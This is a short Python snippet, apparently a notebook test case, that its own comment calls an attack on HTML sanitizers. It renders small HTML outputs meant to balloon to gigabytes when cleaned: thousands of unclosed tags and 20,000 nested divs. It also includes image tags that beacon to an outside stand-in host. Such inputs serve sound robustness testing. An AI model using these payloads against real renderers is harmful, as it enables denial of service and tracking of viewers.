# attack: an output of 23 kB that a cleaner of HTML turns into gigabytes
from IPython.display import HTML, display
display(HTML("".join(f"<b x={i}>" for i in range(1500)) + "<p>x" * 1500))
display(HTML("<div>" * 20_000))
display(HTML('<img src="http://beacon.example/a"><img src="//beacon.example/b">'))
